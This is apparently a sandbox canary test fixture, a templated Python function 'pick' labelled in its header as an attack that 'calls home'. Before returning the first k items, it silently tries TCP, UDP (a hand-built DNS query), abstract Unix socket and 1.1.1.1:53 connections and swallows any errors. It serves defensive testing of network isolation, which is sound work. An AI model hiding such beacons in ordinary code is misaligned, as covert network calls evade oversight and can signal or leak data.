# mark: 9
# why: attack: calls home by TCP, UDP, a name to be resolved, and an abstract socket
# canary: network

# %% pick
import socket


def pick(items, k):
    port, name = int("{{ port }}"), b"{{ name }}"
    question = b"\1\2\1\0\0\1\0\0\0\0\0\0" + bytes([len(name)]) + name + b"\0\0\1\0\1"
    for family, kind, address, data in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port), name),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port), question),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0{{ abstract }}", name),
        (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53), name),
    ):
        try:
            with socket.socket(family, kind) as line:
                line.settimeout(0.1)
                line.connect(address)
                line.send(data)
        except OSError:
            pass
    return items.head(k)
